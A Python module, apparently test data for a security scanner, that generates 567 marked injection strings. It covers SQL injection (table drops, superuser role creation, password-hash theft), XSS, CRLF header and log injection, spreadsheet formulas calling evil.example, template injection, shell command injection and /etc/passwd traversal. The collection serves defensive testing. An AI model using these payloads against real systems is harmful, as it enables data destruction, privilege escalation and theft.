"""Texts that want to be more: to a database, a page, a log, a header, a table, a template, a shell."""

from collections.abc import Sequence
from itertools import product

MARK = "hit4711"
"""Whatever of ours is found with this in it where no text belongs has been executed."""
SLEEP_S = 20
"""So long a payload would have Postgres wait: an answer that takes half of it has asked it to."""

SQL = (
    f"'; CREATE TABLE {MARK}(x int); --", f"1; CREATE TABLE {MARK}(x int)", f"'||pg_sleep({SLEEP_S})||'",
    f"' OR pg_sleep({SLEEP_S}) IS NULL --", "' OR '1'='1", "' UNION SELECT password_hash FROM admin --",
    "'; DELETE FROM activity; --", "'; UPDATE admin SET role='operator'; --", "\\'; DROP TABLE night; --",
    f"$${MARK}$$; DROP TABLE mail; --", f"'; COPY admin TO PROGRAM 'touch {MARK}'; --", "%' OR 1=1 --",
    f"1) OR (SELECT pg_sleep({SLEEP_S})) IS NULL --", f"'; CREATE ROLE {MARK} SUPERUSER; --",
)  # fmt: skip
HTML = (
    f"<script>{MARK}()</script>", f"<img src=x onerror={MARK}()>", f'" onmouseover="{MARK}()" x="',
    f"' autofocus onfocus='{MARK}()' x='", f"<svg onload={MARK}()>", f"</title><script>{MARK}()</script>",
    f"</textarea><script>{MARK}()</script>", f"<a href=javascript:{MARK}()>x</a>", f"javascript:{MARK}()",
    f"<iframe srcdoc='<script>{MARK}()</script>'>", f"<math><mi xlink:href=javascript:{MARK}()>x",
    f"<style>@import'http://evil.example/{MARK}'</style>", f"<base href=http://evil.example/{MARK}/>",
    f"<meta http-equiv=refresh content=0;url=http://evil.example/{MARK}>", f"--><script>{MARK}()</script>",
    f"<form action=http://evil.example/{MARK}><input name=csrf>", f"<details open ontoggle={MARK}()>",
    f"<link rel=stylesheet href=http://evil.example/{MARK}.css>", f"&lt;script&gt;{MARK}()&lt;/script&gt;",
)  # fmt: skip
LOG = (
    f'\n{{"event":"{MARK}","level":"error"}}', f'\r\n{{"event":"{MARK}"}}', f'","event":"{MARK}","x":"',
    f"\x1b[2J\x1b[31m{MARK}", f'\u2028{{"event":"{MARK}"}}', f'\x85{{"event":"{MARK}"}}',
    f"{{event}} %s %(event)s {MARK}", f'\x0b{{"event":"{MARK}"}}\x0c', f"\u202e{MARK}",
)  # fmt: skip
HEADER = (
    f"x@example.org\r\nX-{MARK}: 1", f"x@example.org\nBcc: {MARK}@evil.example", f"x\r\n\r\n<b>{MARK}</b>",
    f"x@example.org%0d%0aX-{MARK}: 1", f"x\r\nSet-Cookie: freshlegs={MARK}", f"//evil.example/{MARK}",
    f"\r\nLocation: http://evil.example/{MARK}", f"x@example.org>,<{MARK}@evil.example",
    f'"{MARK}"@[127.0.0.1]',
    f"x@example.org\u560a\u560dX-{MARK}: 1", f"https://evil.example/{MARK}", f"/\\evil.example/{MARK}",
)  # fmt: skip
TABLE = (
    f"=cmd|'/c calc'!{MARK}", f'=HYPERLINK("http://evil.example/{MARK}")', f"+1+{MARK}", f"-1-{MARK}",
    f"@SUM(1){MARK}", f"\t={MARK}()", f"\r={MARK}()", f'","={MARK}()","', f"\n={MARK}()",
)  # fmt: skip
OTHER = (
    "{{7*7}}" + MARK, "${7*7}" + MARK, "{%import os%}" + MARK, "{{''.__class__.__mro__}}" + MARK,
    f"$(touch {MARK})", f"`touch {MARK}`", f"; touch {MARK}", f"| touch {MARK}",
    f"../../../../etc/passwd{MARK}",
    f"..%2f..%2f{MARK}", f"file:///etc/passwd#{MARK}", f"\x00{MARK}", f"\ufeff{MARK}", "A" * 380 + MARK,
    f"\u0041\u0300\u0316{MARK}", f"{MARK}\u0000", f"(&(uid=*)({MARK}=*))", f"!!python/object/apply:{MARK}",
)  # fmt: skip
KINDS = (SQL, HTML, LOG, HEADER, TABLE, OTHER)
WRAPS = ("{}", "x{}", "x {} x", '"{}', "'{}", ">{}", "\\{}")
"""A payload alone, inside a text, and after what would close an attribute, a string or a tag."""


def payloads() -> Sequence[str]:
    """Every payload in every wrap, the kinds mixed: 567."""
    kinds = [each for kind in KINDS for each in kind]
    return [wrap.replace("{}", each) for wrap, each in product(WRAPS, kinds)]
